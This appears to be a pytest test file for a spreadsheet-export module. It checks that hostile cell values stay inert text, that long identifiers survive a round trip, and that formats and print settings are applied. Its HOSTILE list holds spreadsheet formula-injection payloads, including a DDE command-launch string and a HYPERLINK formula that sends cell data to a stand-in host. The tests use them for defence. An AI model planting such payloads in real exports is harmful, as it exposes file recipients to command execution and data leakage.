"""A workbook shows what was given, and nothing that was given can become a formula."""

from __future__ import annotations

import datetime as dt
import io
from pathlib import Path

import openpyxl
import pyarrow as pa
import pytest
from python_calamine import CalamineWorkbook

from publishing.spreadsheets import (
    MAX_ROWS,
    SUPPRESSED,
    SheetColumn,
    Workbook,
    disarmed,
    is_dangerous,
)

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://contoh.invalid?x="&A1,"klik")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "{=1+1}",
    "http://contoh.invalid",
    "mailto:a@contoh.invalid",
    "internal:'Data'!A1",
    "BUDI <b>&amp; 'SITI' \"X\"",
    "_x0041_",
    "1e5",
    "00123",
    "TRUE",
]
MADE = dt.datetime.fromisoformat("2026-11-01T08:00:00")
NIKS = ["3171905203900001", "9171905203909999", "0000000000000001", "1234567890123456"]


def write(columns: list[tuple[str, str]], data: pa.Table, **options) -> io.BytesIO:
    buffer = io.BytesIO()
    book = Workbook(buffer, title="Judul & uji", author="uji", made=MADE)
    sheet = book.sheet("Data", landscape=True)
    book.table(sheet, 0, [SheetColumn(n, n, kind, {}) for n, kind in columns], data, **options)
    book.close()
    buffer.seek(0)
    return buffer


def test_hostile_names_come_back_as_the_text_they_were() -> None:
    data = pa.table({"full_name": HOSTILE})
    buffer = write([("full_name", "name")], data)
    sheet = openpyxl.load_workbook(buffer)["Data"]
    cells = [sheet.cell(row, 1) for row in range(2, 2 + len(HOSTILE))]
    assert {cell.data_type for cell in cells} == {"s"}
    # The file format writes a carriage return as _x000D_; this reader leaves that to its user.
    assert [cell.value.replace("_x000D_", "\r") for cell in cells] == HOSTILE
    assert not any(cell.hyperlink for cell in cells)
    buffer.seek(0)
    read = CalamineWorkbook.from_filelike(buffer).get_sheet_by_name("Data").to_python()
    assert [row[0] for row in read[1:]] == HOSTILE


def test_a_text_like_a_formula_stays_text_when_its_cell_is_edited() -> None:
    sheet = openpyxl.load_workbook(write([("n", "name")], pa.table({"n": ["=1+1", "BUDI"]})))[
        "Data"
    ]
    assert sheet["A2"].quotePrefix
    assert not sheet["A3"].quotePrefix


def test_identifiers_of_sixteen_digits_survive_a_round_trip() -> None:
    buffer = write([("nik", "nik")], pa.table({"nik": NIKS}))
    sheet = openpyxl.load_workbook(buffer)["Data"]
    assert [sheet.cell(row, 1).value for row in range(2, 6)] == NIKS
    assert {sheet.cell(row, 1).number_format for row in range(2, 6)} == {"@"}
    buffer.seek(0)
    read = CalamineWorkbook.from_filelike(buffer).get_sheet_by_index(0).to_python()
    assert [row[0] for row in read[1:]] == NIKS


def test_numbers_stay_numbers_with_indonesian_formats() -> None:
    data = pa.table(
        {"workers": [1234567], "coverage_rate": [0.355], "started_on": [dt.date(2026, 1, 2)]}
    )
    kinds = [("workers", "persons"), ("coverage_rate", "rate"), ("started_on", "date")]
    sheet = openpyxl.load_workbook(write(kinds, data))["Data"]
    assert [sheet.cell(2, column).value for column in (1, 2)] == [1234567, 0.355]
    assert sheet["C2"].value == dt.datetime.fromisoformat("2026-01-02")
    assert sheet["A2"].number_format == "[$-421]#,##0"
    assert sheet["B2"].number_format == "[$-421]0.0%"


def test_a_suppressed_cell_is_marked_and_an_empty_one_is_not() -> None:
    data = pa.table(
        {"gap": pa.array([None, None, 5], pa.int64()), "suppressed": [True, False, False]}
    )
    sheet = openpyxl.load_workbook(write([("gap", "persons"), ("suppressed", "boolean")], data))
    values = [sheet["Data"].cell(row, 1).value for row in (2, 3, 4)]
    assert values == [SUPPRESSED, "–", 5]


def test_a_sheet_is_ready_to_read_and_print() -> None:
    data = pa.table({"a": ["x"], "b": [1]})
    sheet = openpyxl.load_workbook(write([("a", "text"), ("b", "integer")], data, frozen=1))["Data"]
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == "A1:B2"
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.page_setup.orientation == "landscape"
    assert "&P" in sheet.oddFooter.right.text
    assert sheet.oddHeader.left.text == "Judul && uji"


def test_what_is_too_long_for_a_cell_is_cut_and_says_so() -> None:
    sheet = openpyxl.load_workbook(write([("n", "text")], pa.table({"n": ["A" * 40_000]})))["Data"]
    assert len(sheet["A2"].value) == 32_767
    assert sheet["A2"].value.endswith("[…]")


def test_what_is_too_long_for_a_sheet_is_refused() -> None:
    with pytest.raises(ValueError, match="do not fit"):
        write([("n", "integer")], pa.table({"n": range(MAX_ROWS)}))


def test_nothing_lies_in_a_temporary_folder(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    seen: list[Path] = []
    monkeypatch.setattr("tempfile.mkstemp", lambda *a, **k: seen.append(tmp_path))
    write([("nik", "nik")], pa.table({"nik": NIKS}))
    assert seen == []
    assert list(tmp_path.iterdir()) == []


def test_csv_texts_are_disarmed_and_numbers_are_not() -> None:
    data = pa.table({"n": [*HOSTILE[:9], "BUDI", None], "x": list(range(-5, 6))})
    safe = disarmed(data)
    assert [v for v in safe.column("n").to_pylist() if v and is_dangerous(v)] == []
    assert safe.column("n").to_pylist()[0] == "'" + HOSTILE[0]
    assert safe.column("n").to_pylist()[-2:] == ["BUDI", None]
    assert safe.column("x").to_pylist()[0] == -5
